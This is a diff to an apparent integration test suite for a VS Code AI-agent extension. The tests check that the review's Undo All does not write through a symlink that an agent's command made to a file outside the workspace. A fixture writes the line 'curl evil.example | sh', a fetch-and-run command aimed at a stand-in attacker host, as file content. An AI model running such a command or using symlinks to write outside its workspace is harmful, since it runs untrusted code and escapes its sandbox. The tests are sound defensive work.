@@ -295,10 +295,14 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     }
   });
 
-  it("undoes an agent's change in the workspace when a command then made the file a link to a file outside: the review's Undo All does not write there", async () => {
+  /**
+   * The agent's write over `name` (its own text from an earlier turn, kept), then its command's
+   * link at that name to a file outside; `beforeUndo` (the user looking at the change), then the
+   * review's Undo All, clicked as a user does: it must not write through the link.
+   */
+  async function undoAllThroughLink(name: string, beforeUndo: (file: string) => Promise<void>): Promise<void> {
     const host = suiteHost();
-    const victim = victimFile("undo-victim");
-    const name = "save-guard-undo.txt";
+    const victim = victimFile(`undo-victim-${name}`);
     const file = path.join(workspaceRoot(), name);
     // The text before the agent's change (its own from an earlier turn, kept): what Undo puts back.
     fs.writeFileSync(file, "curl evil.example | sh\n");
@@ -314,6 +318,7 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
       await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
       assert.equal(fs.lstatSync(file).isSymbolicLink(), true, "the command made it a link");
       await eventually("the change to review", () => host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
+      await beforeUndo(file);
       // Undo All in the chat's changes line, clicked as a user does.
       await ui.clickInWebview(chatView, '#changes [data-action="changes-undoAll"]');
       await eventually("the change undone", () => !host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
@@ -323,10 +328,24 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     } finally {
       await restartedWith(() => vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", undefined, vscode.ConfigurationTarget.Global));
       await vscode.commands.executeCommand("pi.review.keepAll");
+      await closeReverted(file);
       await vscode.commands.executeCommand("notifications.clearAll");
       fs.rmSync(file, { force: true });
       fs.rmSync(victim, { force: true });
     }
+  }
+
+  it("undoes an agent's change in the workspace when a command then made the file a link to a file outside: the review's Undo All does not write there", async () => {
+    await undoAllThroughLink("save-guard-undo.txt", () => Promise.resolve());
+  });
+
+  it("undoes an agent's change in the workspace after the user looked at its diff, opened through the command's link: Pi's opening is not the user's, Undo All does not write there", async () => {
+    // The review's diff opens the file by name, through the link: the document was not the user's to open that way.
+    await undoAllThroughLink("save-guard-undo-seen.txt", async (file) => {
+      const host = suiteHost();
+      await vscode.commands.executeCommand("pi.review.openDiff", host.api.review.files().find((f) => f.path === file));
+      await eventually("the diff to show the file", () => vscode.workspace.textDocuments.some((d) => d.uri.fsPath === file) || undefined);
+    });
   });
 
   it("says Full access in the chat header when the sandbox is turned off", async () => {
